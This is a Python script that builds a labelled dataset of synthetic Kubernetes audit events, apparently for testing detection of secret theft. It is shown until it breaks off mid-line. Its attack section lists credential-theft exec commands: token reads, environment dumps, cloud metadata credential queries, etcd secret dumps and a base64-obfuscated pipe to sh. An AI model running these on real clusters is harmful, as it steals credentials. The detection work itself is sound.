#!/usr/bin/env python3
"""make_kubernetes_rows.py > tests/data/labelled-kubernetes.tsv: Kubernetes audit events, each labelled.

Columns as in labelled-dev.tsv. The events are made up after what clusters of several providers write: many operators,
kubelets, pipelines and people at work, and the ways to take credentials through the API. The seed is fixed,
so that the
file is always the same. Labels: attack; benign; gray, which the event alone does not decide.
"""
import json
import random
import sys
import urllib.parse
import uuid

random.seed(20261123)

START = 1795000000
NAMESPACES = ["warehouse", "billing-eu", "checkout", "ml-train", "team-blue", "frontend", "orders", "iot", "hr",
"mail",
              "lab-7", "prod", "default", "tenant-a", "video"]
APPS = ["catalog", "mailer", "thumb", "ingest", "scheduler-ui", "gateway", "quotes", "worker", "session-api",
"tracker"]
NAMES = ["db-main", "stripe", "regcred", "tls-wild", "oauth-client", "smtp", "s3-keys", "ldap", "redis", "signing-key"]
PEOPLE = ["mia@firm.example", "oidc:noah", "arn:aws:sts::444455556666:assumed-role/Dev/ella", "liam.o@firm.example",
          "kube:admin", "IAM#ava@firm.example", "0f3b6c1e-7d1a-4c6e-9a54-1f1d2b3c4d5e", "https://idp.firm.example#zoe",
          "minikube-user", "system:admin", "clusterAdmin", "u-9xk2c"]
PRIVATE = ["10.9.3.17", "172.20.8.91", "192.168.1.44", "10.128.0.9", "fd00:10:244::1c", "100.100.4.2"]
PUBLIC = ["203.0.113.8", "198.51.100.77", "2a02:8070::9", "192.0.2.14", "84.17.3.9"]
PODS = ["10.244.1.8", "10.42.0.12", "10.60.2.9", "172.17.0.5", "192.168.101.33", "fd00:10:244::8"]
KUBECTL = ["kubectl/v1.30.2 (linux/amd64) kubernetes/3968350", "kubectl/v1.26.0 (darwin/arm64) kubernetes/b46a3f8",
           "kubectl1.33/v1.33.1 (linux/arm64) kubernetes/8adc0f0", "oc/4.15.0 (linux/amd64) kubernetes/e93f5b8",
           "kubectl.exe/v1.28.3 (windows/amd64) kubernetes/a8a1abc",
           "kubectl/v1.19.7 (linux/amd64) kubernetes/1dd5338"]
SCRIPTS = ["curl/7.68.0", "curl/8.9.1", "Wget/1.20.3 (linux-gnu)", "python-requests/2.28.2", "Python-urllib/3.11",
           "Go-http-client/2.0", "okhttp/4.10.0", "axios/1.6.2",
           "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
           "PostmanRuntime/7.36.0", "libwww-perl/6.67", "HTTPie/3.2.2", "aiohttp/3.9.5", "python-httpx/0.27.0",
           "Mozilla/5.0 (Windows NT; Windows NT 10.0; de-DE) WindowsPowerShell/5.1.22621.2506", "Ruby"]
TOOLS = ["peirates/v0.0.0 (linux/amd64) kubernetes/$Format", "cdk/1.5.3", "kubeletctl/1.12", "kdigger/v1.5.1",
         "kube-hunter/0.6.8", "stratus-red-team_2e7c"]

rows = []


def account(namespace, name):
    return f"system:serviceaccount:{namespace}:{name}"


def groups_of(user):
    if user.startswith("system:serviceaccount:"):
        return ["system:serviceaccounts", "system:serviceaccounts:" + user.split(":")[2], "system:authenticated"]
    if user.startswith("system:node:"):
        return ["system:nodes", "system:authenticated"]
    if user == "system:anonymous":
        return ["system:unauthenticated"]
    return ["system:authenticated"]


def split_path(path):
    """The object that the API server notes beside a path, and whether it is a collection."""
    parts = path.strip("/").split("/")
    if parts[0] == "api" and len(parts) > 2:
        group, version, rest = None, parts[1], parts[2:]
    elif parts[0] == "apis" and len(parts) > 3:
        group, version, rest = parts[1], parts[2], parts[3:]
    else:
        return None
    found = {"apiVersion": version}
    if group:
        found["apiGroup"] = group
    if len(rest) > 2 and rest[0] == "namespaces":
        found["namespace"] = rest[1]
        rest = rest[2:]
    for key, value in zip(("resource", "name", "subresource"), rest):
        found[key] = value
    return found if "resource" in found else None


def event(label, variant, verb, uri, user, agent, source, code=200, stage="ResponseComplete", body=None, as_user=None,
          as_groups=None, level=None, version="v1", at=None, wrap=None):
    path = uri.split("?", 1)[0]
    time = START + len(rows) * 61 if at is None else at
    stamp = lambda extra: __import__("datetime").datetime.fromtimestamp(
        time + extra, __import__("datetime").timezone.utc).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    made = {"kind": "Event", "apiVersion": "audit.k8s.io/" + version,
            "level": level or ("RequestResponse" if body else "Metadata"),
            "auditID": str(uuid.UUID(int=random.getrandbits(128), version=4)), "stage": stage, "requestURI": uri,
            "verb": verb, "user": {"username": user, "groups": groups_of(user)}}
    if as_user:
        made["impersonatedUser"] = {"username": as_user, "groups": as_groups or ["system:authenticated"]}
    made["sourceIPs"] = [source] if source else []
    if agent is not None:
        made["userAgent"] = agent
    found = split_path(path)
    if found:
        made["objectRef"] = found
    if stage != "RequestReceived":
        made["responseStatus"] = {"metadata": {}, "code": code}
    if body:
        made["requestObject"] = body
    made["requestReceivedTimestamp"] = stamp(0)
    made["stageTimestamp"] = stamp(0.004)
    if stage != "RequestReceived":
        made["annotations"] = {"authorization.k8s.io/decision": "forbid" if code == 403 else "allow",
                               "authorization.k8s.io/reason": ""}
    if wrap == "aks":
        made = {"operationName": "Microsoft.ContainerService/managedClusters/diagnosticLogs/Read",
                "category": "kube-audit", "ccpNamespace": "6500b8c2c8d1f90001",
                "resourceId": "/SUBSCRIPTIONS/0000/RESOURCEGROUPS/RG/PROVIDERS/MICROSOFT.CONTAINERSERVICE/"
                              "MANAGEDCLUSTERS/BLUE", "properties": {"log": json.dumps(made), "stream": "stdout"},
                "time": made["stageTimestamp"]}
    elif wrap == "cloudwatch":
        made = {"id": "3739", "timestamp": int(time * 1000), "message": json.dumps(made)}
    rows.append((label, variant, "k8s-audit", json.dumps(made, separators=(",", ":"))))


def ns():
    return random.choice(NAMESPACES)


def pick(values):
    return random.choice(values)


def pod(app=None):
    return f"{app or pick(APPS)}-{random.getrandbits(36):x}"


def exec_uri(namespace, words, name=None, more="&container=app&stderr=true&stdout=true"):
    query = "&".join("command=" + urllib.parse.quote_plus(word) for word in words)
    return f"/api/v1/namespaces/{namespace}/pods/{name or pod()}/exec?{query}{more}"


def secrets_uri(namespace=None, name=None, query=""):
    middle = f"/namespaces/{namespace}" if namespace else ""
    return f"/api/v1{middle}/secrets{'/' + name if name else ''}{query}"



# ---- benign ----

CLIENT_GO = " (linux/amd64) kubernetes/$Format"
OPERATORS = [
    ("cert-manager", "cert-manager", "cert-manager-certificates-issuing/v1.15.1 (linux/amd64) cert-manager/3a4b1c"),
    ("external-secrets", "external-secrets-webhook", "external-secrets/v0.10.0" + CLIENT_GO),
    ("argocd", "argocd-applicationset-controller", "argocd-applicationset-controller/v2.12.1"),
    ("argo", "workflow-controller", "workflow-controller/v3.5.8" + CLIENT_GO),
    ("flux-system", "notification-controller", "notification-controller/v1.3.0" + CLIENT_GO),
    ("velero", "velero-server", "velero-server/v1.14.0 (linux/arm64) 2fc6300"),
    ("kube-system", "sealed-secrets", "controller/v0.27.1" + CLIENT_GO),
    ("kyverno", "kyverno-background-controller", "kyverno/v1.13.0" + CLIENT_GO),
    ("gatekeeper-system", "gatekeeper-admin", "gatekeeper/v3.16.3"),
    ("monitoring", "prometheus-operator", "PrometheusOperator/0.75.1"),
    ("datadog", "datadog-operator", "manager/v1.8.0" + CLIENT_GO),
    ("newrelic", "newrelic-bundle-nri-kubernetes", "nri-kubernetes/3.29.0" + CLIENT_GO),
    ("longhorn-system", "longhorn-service-account", "longhorn-manager/v1.7.0"),
    ("traefik-v2", "traefik", "traefik/2.11.2 (linux/amd64) kubernetes/crd"),
    ("ingress-nginx", "ingress-nginx", "nginx-ingress-controller/v1.11.2 (linux/amd64) ingress-nginx/46e76e5916"),
    ("cnpg-system", "cnpg-manager", "manager/1.24.0" + CLIENT_GO),
    ("istio-system", "istiod", "pilot-discovery/1.22.3"),
    ("linkerd", "linkerd-identity", "controller/stable-2.14.10" + CLIENT_GO),
    ("kafka", "strimzi-cluster-operator", "fabric8-kubernetes-client/6.13.1"),
    ("crossplane-system", "crossplane", "crossplane/v1.16.0" + CLIENT_GO),
    ("crossplane-system", "provider-aws-s3-4f2b9", "provider/v1.9.0" + CLIENT_GO),
    ("cattle-system", "rancher", "rancher/v2.9.0 (linux/amd64) management/6f2a"),
    ("cattle-fleet-system", "fleet-agent", "fleet-agent/v0.10.0"),
    ("rook-ceph", "rook-ceph-system", "rook/v0.0.0" + CLIENT_GO),
    ("kube-system", "aws-load-balancer-controller", "elbv2.k8s.aws/v2.8.1 (linux/amd64) kubernetes/$Format"),
    ("kube-system", "ebs-csi-controller-sa", "csi-provisioner/v0.0.0" + CLIENT_GO),
    ("kube-system", "cilium-operator", "cilium-operator-generic/v1.15.6" + CLIENT_GO),
    ("tigera-operator", "tigera-operator", "operator/v1.34.0" + CLIENT_GO),
    ("keda", "keda-operator", "keda/2.14.0" + CLIENT_GO),
    ("elastic-system", "elastic-operator", "elastic-operator/2.13.0" + CLIENT_GO),
    ("mongodb", "mongodb-kubernetes-operator", "manager/v0.0.0" + CLIENT_GO),
    ("postgres-operator", "postgres-operator", "postgres-operator/v1.12.2" + CLIENT_GO),
    ("minio-operator", "minio-operator", "minio-operator/v5.0.15" + CLIENT_GO),
    ("metallb-system", "metallb-controller", "controller/v0.14.5" + CLIENT_GO),
    ("openshift-authentication-operator", "authentication-operator", "authentication-operator/v4.15" + CLIENT_GO),
    ("openshift-ingress-operator", "ingress-operator", "ingress-operator/v0.0.0" + CLIENT_GO),
    ("openshift-monitoring", "cluster-monitoring-operator", "operator/v4.15" + CLIENT_GO),
    ("gitlab", "gitlab-runner", "gitlab-runner 17.1.0 linux/amd64"),
    ("tekton-pipelines", "tekton-pipelines-controller", "controller/v0.61.0" + CLIENT_GO),
    ("reloader", "reloader-reloader", "Reloader/v1.0.116" + CLIENT_GO),
    ("vault-secrets-operator-system", "vault-secrets-operator-controller-manager",
          "vault-secrets-operator/0.8.0" + CLIENT_GO),
    ("bank-vaults", "vault-operator", "bank-vaults/1.31" + CLIENT_GO),
    ("dynatrace", "dynatrace-operator", "dynatrace-operator/v1.2.1" + CLIENT_GO),
    ("jaeger", "jaeger-operator", "manager/v1.58.0" + CLIENT_GO),
    ("opentelemetry", "otel-collector", "otelcol-contrib/0.104.0" + CLIENT_GO),
    ("kubevirt", "kubevirt-operator", "virt-operator/v1.2.2" + CLIENT_GO),
    ("azure-workload-identity-system", "azure-wi-webhook-admin", "webhook/v1.3.0" + CLIENT_GO),
    ("kube-system", "secrets-store-csi-driver", "secrets-store-csi/v1.4.4" + CLIENT_GO),
    ("knative-serving", "controller", "controller/v1.14" + CLIENT_GO),
    ("capi-system", "capi-manager", "manager/v1.7.3 cluster-api-controller-manager" + CLIENT_GO),
    ("external-dns", "external-dns", "external-dns/v0.14.2"),
    ("harbor", "harbor-operator", "harbor-operator/v1.4" + CLIENT_GO),
]


def benign_operators():
    for namespace, name, agent in OPERATORS:
        user, source = account(namespace, name), pick(PODS)
        version = random.randrange(10000, 9000000)
        event("benign", "operator-list", "list", secrets_uri(query="?limit=500&resourceVersion=0"), user, agent,
              source)
        event("benign", "operator-watch", "watch",
              secrets_uri(query=f"?allowWatchBookmarks=true&resourceVersion={version}&timeoutSeconds=410&watch=true"),
              user, agent, source, stage=pick(["ResponseStarted", "ResponseComplete", "RequestReceived"]))
        if "fabric8" not in agent:
            event("benign", "operator-get", "get", secrets_uri(ns(), pick(NAMES)), user, agent, source,
                  code=pick([200, 200, 404]))
        event("benign", "operator-write", pick(["update", "create", "patch"]), secrets_uri(ns(), pick(NAMES)), user,
              agent, source)
        event("benign", "operator-configmap", pick(["get", "update"]),
              f"/api/v1/namespaces/{namespace}/configmaps/{name}-leader", user, agent, source)
    # operators that share nothing with the name of their account, and cache what they watch
    for namespace, name, agent in (("sre", "replicator", "mirrors/v2" + CLIENT_GO), ("infra", "sync", "tidewatch/0.4"),
                                   ("apps", "kopf-peering", "OpenAPI-Generator/29.0.0/python"),
                                   ("monitoring", "grafana", "OpenAPI-Generator/25.3.0/python")):
        event("benign", "operator-unknown", "list", secrets_uri(query="?labelSelector=sync%3Dtrue&resourceVersion=0"),
              account(namespace, name), agent, pick(PODS))
        event("benign", "operator-unknown", "watch",
              secrets_uri(query="?allowWatchBookmarks=true&labelSelector=sync%3Dtrue&resourceVersion=77&watch=true"),
              account(namespace, name), agent, pick(PODS))
        event("benign", "own-namespace", "get", secrets_uri(namespace, "settings"), account(namespace, name), agent,
              pick(PODS))
    event("benign", "own-namespace", "list", secrets_uri("kafka", query="?labelSelector=strimzi.io%2Fkind%3DKafka"),
          account("kafka", "strimzi-cluster-operator"), "fabric8-kubernetes-client/6.13.1", "10.42.0.12")


def benign_cluster():
    nodes = ["ip-10-0-3-4.eu-west-1.compute.internal", "aks-pool1-1234-vmss000002", "gke-blue-default-pool-77af-x1",
    "n4"]
    for node in nodes:
        user, agent, source = "system:node:" + node, "kubelet/v1.30.1 (linux/amd64) kubernetes/6911225", pick(PRIVATE)
        name = pick(NAMES)
        event("benign", "kubelet", "list", secrets_uri(ns(), query=f"?fieldSelector=metadata.name%3D{name}&limit=500"
                                                                     "&resourceVersion=0"), user, agent, source)
        event("benign", "kubelet", "watch",
              secrets_uri(ns(), query=f"?allowWatchBookmarks=true&fieldSelector=metadata.name%3D{name}&watch=true"),
              user, agent, source)
        event("benign", "kubelet", "get", secrets_uri(ns(), name), user, agent, source, code=pick([200, 403, 404]))
        event("benign", "kubelet", "list", f"/api/v1/namespaces/{ns()}/configmaps?fieldSelector=metadata.name%3D"
                                           "kube-root-ca.crt&limit=500", user, agent, source)
        event("benign", "kubelet", "create", f"/api/v1/namespaces/{ns()}/serviceaccounts/default/token", user, agent,
              source, 201, body={"kind": "TokenRequest", "spec": {"audiences": ["api"], "expirationSeconds": 3607,
                                                                 "boundObjectRef": {"kind": "Pod", "name": pod()}}})
        event("benign", "kubelet", "create", f"/api/v1/namespaces/{ns()}/serviceaccounts/worker/token", user, agent,
              source, 201)
        event("benign", "kubelet", "create", "/apis/authentication.k8s.io/v1/tokenreviews", user, agent, source, 201)
        event("benign", "kubelet", "create", "/apis/certificates.k8s.io/v1/certificatesigningrequests", user, agent,
              source, 201, body={"spec": {"signerName": "kubernetes.io/kubelet-serving"}})
        event("benign", "mirror-pod", "create", "/api/v1/namespaces/kube-system/pods", user, agent, source, 201,
              body={"spec": {"volumes": [{"hostPath": {"path": "/etc/kubernetes/pki"}}],
                             "containers": [{"command": ["etcd", "--data-dir=/var/lib/etcd"]}]}})
    manager = "kube-controller-manager/v1.30.1 (linux/amd64) kubernetes/6911225"
    for name in ("replicaset-controller", "daemon-set-controller", "job-controller", "namespace-controller",
                 "generic-garbage-collector", "resourcequota-controller", "root-ca-cert-publisher"):
        user = account("kube-system", name)
        agent = manager + "/" + user
        event("benign", "controller", "list", secrets_uri(query="?limit=500&resourceVersion=0"), user, agent,
              "10.0.0.2")
        event("benign", "controller", "create", f"/api/v1/namespaces/kube-system/serviceaccounts/{name}/token",
              "system:kube-controller-manager", manager + "/kube-controller-manager", "127.0.0.1", 201)
    event("benign", "controller", "deletecollection", secrets_uri("lab-7"), account("kube-system",
          "namespace-controller"),
          manager + "/" + account("kube-system", "namespace-controller"), "10.0.0.2")
    event("benign", "controller", "create", "/api/v1/namespaces/monitoring/pods",
          account("kube-system", "daemon-set-controller"), manager + "/daemon-set-controller", "10.0.0.2", 201,
          body={"spec": {"serviceAccountName": "node-exporter", "volumes": [{"hostPath": {"path": "/"}}]}})
    event("benign", "controller", "create", "/api/v1/namespaces/default/pods",
          account("kube-system", "daemon-set-controller"), None, "::1", 201, version="v1beta1",
          body={"spec": {"volumes": [{"hostPath": {"path": "/proc"}}]}})
    for user, agent in (("system:apiserver", "kube-apiserver/v1.30.1 (linux/amd64) kubernetes/6911225"),
                        ("system:kube-scheduler", "kube-scheduler/v1.30.1 (linux/amd64) kubernetes/6911225/scheduler"),
                        ("eks:kms-storage-migrator", "kms-storage-migrator/v1" + CLIENT_GO),
                        ("eks:addon-manager", "Go-http-client/1.1"), ("aksService", "ccp-webhook/v0" + CLIENT_GO),
                        ("system:gke-common-webhooks", "gke-common-webhooks/v1" + CLIENT_GO),
                        ("system:cloud-controller-manager", "cloud-controller-manager/v1.30"),
                        ("system:k3s-controller", "k3s/v1.30.2+k3s1 (linux/amd64) kubernetes/faeaf1b")):
        event("benign", "provider", "list", secrets_uri(query="?limit=500&resourceVersion=0"), user, agent, "10.0.0.2")
        event("benign", "provider", "get",
              "/api/v1/namespaces/kube-system/configmaps/extension-apiserver-authentication",
              user, agent, "10.0.0.2")
    event("benign", "approve", "update", "/apis/certificates.k8s.io/v1/certificatesigningrequests/csr-x1/approval",
          account("kube-system", "certificate-controller"), manager + "/certificate-controller", "10.0.0.2")
    event("benign", "kubeadm", "get", secrets_uri("kube-system", "bootstrap-token-abcdef"), "kubernetes-admin",
          "kubeadm/v1.30.1 (linux/amd64) kubernetes/6911225", "10.0.0.2", 404)
    event("benign", "kubeadm", "get", secrets_uri("kube-system", "kubeadm-certs"), "system:bootstrap:abcdef",
          "kubeadm/v1.30.1 (linux/amd64) kubernetes/6911225", "10.0.0.5")
    event("benign", "kubeadm", "get", "/api/v1/namespaces/kube-public/configmaps/cluster-info", "system:anonymous",
          "kubeadm/v1.30.1 (linux/amd64) kubernetes/6911225", "10.0.0.5")
    for path, agent in (("/readyz", "kube-probe/1.30"), ("/livez?verbose", "GoogleHC/1.0"), ("/version", "curl/8.5.0"),
                        ("/healthz", "ELB-HealthChecker/2.0"), ("/", "Mozilla/5.0"), ("/.env", "python-requests/2.31"),
                        ("/api", "Go-http-client/1.1")):
        event("benign", "nonresource", "get", path, "system:anonymous", agent, pick(PRIVATE + PUBLIC), pick([200,
              403]))
    for namespace, name, agent in (("monitoring", "prometheus-k8s", "Prometheus/2.53.0"),
                                   ("datadog", "datadog", "datadog-agent/7.55"),
                                   ("kube-system", "metrics-server", "metrics-server/v0.7.1" + CLIENT_GO),
                                   ("newrelic", "newrelic", "nri-kubelet/3.2")):
        for path in ("metrics", "metrics/cadvisor", "stats/summary"):
            event("benign", "node-metrics", "get", f"/api/v1/nodes/n{random.randrange(9)}/proxy/{path}",
                  account(namespace, name), agent, pick(PODS), pick([200, 403]))
        event("benign", "review", "create", "/apis/authorization.k8s.io/v1/subjectaccessreviews",
              account(namespace, name), agent, pick(PODS), 201)
        event("benign", "review", "create", "/apis/authorization.k8s.io/v1/selfsubjectaccessreviews",
              account(namespace, name), agent, pick(PODS), 201,
              body={"spec": {"resourceAttributes": {"verb": "list", "resource": "pods"}}})
    event("benign", "review", "create", "/apis/authentication.k8s.io/v1/tokenreviews", account("vault", "vault"),
          "vault/1.17.2", "10.60.2.9", 201)
    event("benign", "review", "create", "/apis/authentication.k8s.io/v1/tokenreviews", account("auth", "oauth2-proxy"),
          "Go-http-client/2.0", "10.60.2.9", 201)
    for name in ("argocd-server", "argo-server", "kubernetes-dashboard"):
        event("benign", "logs-by-program", "get", f"/api/v1/namespaces/{ns()}/pods/{pod()}/log?follow=true",
              account(name.split("-", maxsplit=1)[0] if "argo" in name else name, name), name + "/v2.10", pick(PODS))
    event("benign", "impersonation", "list", "/api/v1/namespaces/prod/pods", account("cattle-system", "rancher"),
          "rancher/v2.9.0", "10.42.0.3", as_user="u-b4qkhsnliz", as_groups=["system:authenticated", "local://g1"])
    event("benign", "impersonation", "patch", secrets_uri("tenant-a", "app"),
          account("flux-system", "kustomize-controller"), "kustomize-controller/v1.3.0" + CLIENT_GO, "10.42.0.9",
          as_user=account("tenant-a", "flux-reconciler"))


ROUTINE = [
    ("list", "/api/v1/namespaces/{n}/pods?limit=500"), ("list", "/api/v1/pods?limit=500"),
    ("get", "/apis/apps/v1/namespaces/{n}/deployments/{a}"), ("list", "/api/v1/namespaces/{n}/events?limit=500"),
    ("watch", "/api/v1/namespaces/{n}/pods?resourceVersion=11&watch=true"), ("list", "/api/v1/nodes?limit=500"),
    ("list", "/apis/metrics.k8s.io/v1beta1/namespaces/{n}/pods"), ("get", "/api/v1/namespaces/{n}/services/{a}"),
    ("patch", "/apis/apps/v1/namespaces/{n}/deployments/{a}?fieldManager=kubectl-rollout"),
    ("list", "/apis/batch/v1/namespaces/{n}/cronjobs?limit=500"), ("get", "/api?timeout=32s"), ("get", "/apis"),
    ("list", "/apis/external-secrets.io/v1beta1/namespaces/{n}/externalsecrets?limit=500"),
    ("list", "/apis/bitnami.com/v1alpha1/sealedsecrets?limit=500"),
    ("list", "/apis/secrets-store.csi.x-k8s.io/v1/secretproviderclasses?limit=500"),
    ("list", "/apis/external-secrets.io/v1/clustersecretstores?limit=500"),
    ("get", "/api/v1/namespaces/{n}/pods/secrets-rotator-7c9f/log?tailLines=50"),
    ("get", "/api/v1/namespaces/{n}/configmaps/{a}-config"), ("delete", "/api/v1/namespaces/{n}/pods/{a}-0"),
    ("get", "/api/v1/namespaces/{n}/pods/{a}-0/log?container=app&follow=true"), ("get", "/api/v1/namespaces/{n}"),
    ("create", "/api/v1/namespaces/{n}/pods/{a}-0/portforward"), ("get",
          "/api/v1/namespaces/{n}/pods/{a}-0/portforward"),
    ("create", "/api/v1/namespaces/monitoring/pods/grafana-7d4b/portforward"),
    ("list", "/apis/rbac.authorization.k8s.io/v1/clusterroles?limit=500"), ("get", "/openapi/v3?timeout=32s"),
    ("create", "/api/v1/namespaces/{n}/configmaps?fieldManager=kubectl-create"),
    ("get", "/api/v1/nodes/n3/proxy/stats/summary"), ("list", "/api/v1/persistentvolumes?limit=500"),
    ("delete", "/api/v1/namespaces/{n}/secrets/old-one"), ("create",
          "/api/v1/namespaces/{n}/secrets?fieldManager=kubectl-create"),
]
EVERYDAY = [
    ["ls", "-la", "/app"], ["date"], ["ps", "aux"], ["nginx", "-s", "reload"], ["cat", "/etc/nginx/nginx.conf"],
    ["python", "manage.py", "migrate"], ["redis-cli", "ping"], ["psql", "-U", "app", "-c", "select 1"], ["id"],
    ["curl", "-s", "localhost:8080/health"], ["java", "-version"], ["tar", "cf", "-", "/app/logs"], ["whoami"],
    ["tail", "-n", "100", "/var/log/app.log"], ["cat", "/etc/os-release"], ["hostname"], ["netstat", "-tlnp"],
    ["sh", "-c", "df -h && free -m"], ["kill", "-HUP", "1"], ["du", "-sh", "/data"], ["rabbitmqctl", "list_queues"],
    ["sh", "-c", "ls /run/secrets"], ["/bin/sh", "-c", "nginx -t && nginx -s reload"], ["cat", "/proc/meminfo"],
    ["nslookup", "kubernetes.default"], ["mysqladmin", "ping"], ["wget", "-qO-", "http://localhost/metrics"],
    ["grep", "ERROR", "/var/log/app/app.log"], ["bundle", "exec", "rake", "db:migrate"], ["php", "artisan",
    "queue:restart"],
    ["jstack", "1"], ["kafka-topics.sh", "--list", "--bootstrap-server", "localhost:9092"], ["uptime"], ["ip", "addr"],
    ["sh", "-c", "test -f /tmp/ready"], ["touch", "/tmp/maintenance"], ["cat", "/app/VERSION"], ["pg_isready"],
]


def benign_people():
    for verb, uri in ROUTINE * 3:
        event("benign", "routine", verb, uri.format(n=ns(), a=pick(APPS)), pick(PEOPLE), pick(KUBECTL),
              pick(PRIVATE + PUBLIC[:1]), pick([200, 200, 404]))
    for words in EVERYDAY:
        event("benign", "exec-everyday", pick(["get", "create"]), exec_uri(ns(), words), pick(PEOPLE), pick(KUBECTL),
              pick(PRIVATE), 101, stage=pick(["ResponseStarted", "ResponseComplete", "RequestReceived"]))
    for user, agent in ((account("ci", "gitlab-deploy"), KUBECTL[0]), (account("cicd", "release"), KUBECTL[1]),
                        ("ci-bot", KUBECTL[2]), ("deploy@proj.iam.gserviceaccount.com", KUBECTL[0])):
        namespace, name, at = ns(), pick(NAMES), START - 86400 + len(rows)
        event("benign", "apply", "get", secrets_uri(namespace, name), user, agent, "10.9.3.17", at=at)
        event("benign", "apply", "patch",
              secrets_uri(namespace, name, "?fieldManager=kubectl-client-side-apply&fieldValidation=Strict"), user,
              agent,
              "10.9.3.17", at=at)
        event("benign", "apply", "patch", secrets_uri(namespace, name, "?fieldManager=kubectl&force=true"), user,
              agent,
              "10.9.3.17")
        event("benign", "deploy", "create", f"/apis/apps/v1/namespaces/{namespace}/deployments", user, agent,
              "10.9.3.17",
              201, body={"kind": "Deployment", "metadata": {"name": "web"}, "spec": {"template": {"spec": {
                  "serviceAccountName": "web", "volumes": [{"secret": {"secretName": "db-main"}}], "containers": [
                      {"name": "c", "command": ["node", "server.js"], "env": [{"name": "P", "valueFrom": {
                          "secretKeyRef": {"name": "db-main", "key": "p"}}}]}]}}}})
        event("benign", "deploy", "get", f"/api/v1/namespaces/{namespace}/serviceaccounts/web", user, agent,
              "10.9.3.17")
    for user in (account("ci", "helm"), account("gitlab", "deployer"), account("jenkins", "releaser")):
        namespace = ns()
        event("benign", "helm", "list", secrets_uri(namespace, query="?labelSelector=owner%3Dhelm%2Cname%3Dshop"),
              user,
              "Helm/3.15.2", "10.60.2.9")
        event("benign", "helm", "get", secrets_uri(namespace, "sh.helm.release.v1.shop.v9"), user, "Helm/3.15.2",
              "10.60.2.9")
        event("benign", "helm", "create", secrets_uri(namespace), user, "Helm/3.15.2", "10.60.2.9", 201)
    event("benign", "terraform", "get", secrets_uri("prod", "tf-made"), "tf-runner",
          "HashiCorp/1.0 Terraform/1.9.2", "10.9.3.17")
    event("benign", "terraform", "get", "/api/v1/namespaces/prod/configmaps/tf-made", "tf-runner",
          "HashiCorp/1.0 Terraform/1.9.2", "10.9.3.17")
    event("benign", "impersonation", "list", "/api/v1/namespaces/prod/pods?limit=500", "kubernetes-admin", KUBECTL[0],
          "10.9.3.17", as_user="dev-user")
    event("benign", "velero-hook", "create", exec_uri("prod", ["/sbin/fsfreeze", "--freeze", "/data"]),
          account("velero", "velero-server"), "velero-server/v1.14.0", "10.42.0.12", 101)
    event("benign", "oc", "create", "/apis/user.openshift.io/v1/users/~", "kube:admin", KUBECTL[3], "10.9.3.17", 405)



# ---- attacks ----

TOKEN = "/var/run/secrets/kubernetes.io/serviceaccount/token"
STEALING = [
    ["cat", TOKEN], ["cat", "/run/secrets/kubernetes.io/serviceaccount/token"], ["base64", "-w0", TOKEN], ["env"],
    ["printenv"], ["printenv", "DB_PASSWORD"], ["sh", "-c", "env | sort"], ["/bin/bash", "-c",
    "printenv|grep -i pass"],
    ["sh", "-c", "cat /var/run/secrets/*/serviceaccount/*"], ["strings", "/proc/1/environ"], ["cat",
    "/proc/1/environ"],
    ["sh", "-c", "tr '\\0' '\\n' < /proc/self/environ"], ["tar", "cf", "-", "/run/secrets"], ["sh", "-c", "set"],
    ["tar", "czf", "-", "/var/run/secrets/kubernetes.io"], ["find", "/run/secrets", "-type", "f", "-exec", "cat",
    "{}", "+"],
    ["sh", "-c", "cd /run/secrets/kubernetes.io/serviceaccount && cat token"], ["xxd", "-p", TOKEN],
    ["python3", "-c", "import os;print(os.environ)"], ["node", "-e", "console.log(process.env)"],
    ["python", "-c", "print(open('" + TOKEN + "').read())"], ["dd", "if=" + TOKEN], ["awk", "1", TOKEN],
    ["sed", "-n", "p", "/run/secrets/kubernetes.io/serviceaccount/token"], ["bash", "-c", "export -p"],
    ["sh", "-c",
    "curl -sk -H \"Authorization: Bearer $(cat " + TOKEN + ")\" https://kubernetes.default/api/v1/secrets"],
    ["curl", "-s", "http://169.254.169.254/latest/meta-data/iam/security-credentials/"],
    ["curl", "-H", "Metadata-Flavor: Google",
     "http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token"],
    ["etcdctl", "get", "/registry/secrets", "--prefix"], ["cat", "/root/.aws/credentials"], ["cat",
    "/vault/secrets/db"],
    ["sh", "-c", "echo Y2F0IC9ydW4vc2VjcmV0cy9rdWJlcm5ldGVzLmlvL3NlcnZpY2VhY2NvdW50L3Rva2Vu | base64 -d | sh"],
    ["cat", "/app/.env"], ["cat", "/mnt/secrets-store/db-password"], ["cp", "/run/secrets/db", "/dev/stdout"],
    ["cat", "/etc/kubernetes/admin.conf"], ["sh", "-c",
    "head -c 9999 /var//run/./secrets/kubernetes.io/serviceaccount/token"],
    ["kubectl", "get", "secrets", "-A"], ["cat", "/home/app/.kube/config"], ["tail", "-c", "+0",
    "/etc/app-secrets/key"],
    ["vault", "kv", "get", "secret/db"], ["more", "/run/secrets/eks.amazonaws.com/serviceaccount/token"],
]


def attack_secrets():
    for _ in range(6):
        event("attack", "human-list-all", "list", secrets_uri(query=pick(["?limit=500", "",
              "?limit=1000&continue=ab"])),
              pick(PEOPLE), pick(KUBECTL), pick(PRIVATE + PUBLIC), pick([200, 200, 403]))
        event("attack", "human-list-ns", pick(["list", "watch"]), secrets_uri(ns(), query="?limit=500"), pick(PEOPLE),
              pick(KUBECTL), pick(PRIVATE + PUBLIC), pick([200, 403]))
        event("attack", "human-get", "get", secrets_uri(ns(), pick(NAMES)), pick(PEOPLE), pick(KUBECTL),
              pick(PRIVATE + PUBLIC), pick([200, 403]))
        event("attack", "account-script", pick(["list", "get"]), secrets_uri(pick([None, ns(), "kube-system"])),
              account(ns(), pick(["default", *APPS])), pick(SCRIPTS), pick(PODS + PUBLIC), pick([200, 403]))
        event("attack", "account-get", "get", secrets_uri(ns() + "-x", pick(NAMES)), account(ns(), pick(APPS)),
              pick(SCRIPTS), pick(PODS), pick([200, 403]))
        event("attack", "account-kubectl", "list", secrets_uri(pick([None, ns()])), account(ns(), pick(APPS)),
              pick(KUBECTL), pick(PODS + PUBLIC), pick([200, 403]))
    for namespace, name, _ in random.sample(OPERATORS, 10):
        event("attack", "operator-stolen", "list", secrets_uri(pick([None, ns()])), account(namespace, name),
              pick(SCRIPTS + KUBECTL + TOOLS), pick(PODS + PUBLIC), pick([200, 200, 403]))
    for agent in TOOLS + ["Mozilla/5.0 (X11; Linux x86_64) Chrome/120", "k9s/v0.32.5" + CLIENT_GO, "Lens/2024.7", None,
